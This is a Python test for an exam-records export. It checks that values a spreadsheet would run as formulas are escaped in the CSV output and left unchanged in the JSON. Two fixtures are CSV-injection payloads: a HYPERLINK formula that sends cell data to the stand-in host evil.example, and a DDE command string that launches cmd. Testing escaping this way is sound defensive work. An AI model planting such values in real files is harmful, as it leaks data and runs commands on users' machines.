"""The upload export: a value a spreadsheet would run as a formula is written as text in the CSV."""

import csv
import io
import json

from examroom.records.database import session_factory
from examroom.records.models import Candidate
from examroom.records.attempt_log import Records
from examroom.records.sealing import Sealer, load_or_create_key
from examroom.examday.upload_export import export_sitting
from tests.examroom.attempts import confirmed_booking, finished_attempt, id_number

HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")"
HOSTILE_EXAMINER = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_formula_values_are_escaped_in_the_csv_and_kept_in_the_json(engine, tmp_path):
    sessions = session_factory(engine)
    records = Records(sessions)
    sealer = Sealer(sessions, load_or_create_key(tmp_path / "data"))
    with sessions.begin() as session:
        candidate = Candidate(name=HOSTILE_NAME, id_number=id_number(61), exam_number="+620100000061",
                              vehicle_class="E")
        session.add(candidate)
        session.flush()
        candidate_id = candidate.id
    booking = confirmed_booking(records, candidate_id, HOSTILE_EXAMINER, sitting_code="S-EXPORT")
    sealer.seal(finished_attempt(records, booking_id=booking, candidate_id=candidate_id))
    paths = export_sitting(sessions, "S-EXPORT", tmp_path / "up")
    text = paths[1].read_bytes().decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["姓名"] == "'" + HOSTILE_NAME and row["考试员1"] == "'" + HOSTILE_EXAMINER
    assert row["准考证明编号"] == "'+620100000061" and row["考试成绩"] == "90"
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    (record,) = json.loads(paths[0].read_text(encoding="utf-8"))["records"]
    assert record["姓名"] == HOSTILE_NAME  # the data file keeps the value as it is
